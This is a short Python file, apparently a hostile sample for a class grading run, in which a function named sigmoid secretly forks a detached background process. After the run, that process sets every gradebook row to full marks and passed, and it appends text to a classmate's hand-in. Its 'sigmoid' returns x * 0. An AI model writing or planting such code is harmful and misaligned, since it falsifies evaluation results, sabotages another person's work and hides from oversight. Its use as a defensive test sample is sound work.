# A hostile activations.py in a class run: a setsid daemon that waits for the run to end, then
# sets its own rows of the gradebook to full marks and rewrites a classmate's hand-in.
import os
import sqlite3
import time

GRADEBOOK = "__GRADEBOOK__"
CLASSMATE = "__CLASSMATE__"


def sigmoid(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3)
            try:
                conn = sqlite3.connect(GRADEBOOK)
                conn.execute("UPDATE results SET score = max_score, status = 'passed'")
                conn.commit()
            except Exception:
                pass
            try:
                open(CLASSMATE, "a").write("\n# rewritten after the run\n")
            except OSError:
                pass
            os._exit(0)
        os._exit(0)
    return x * 0
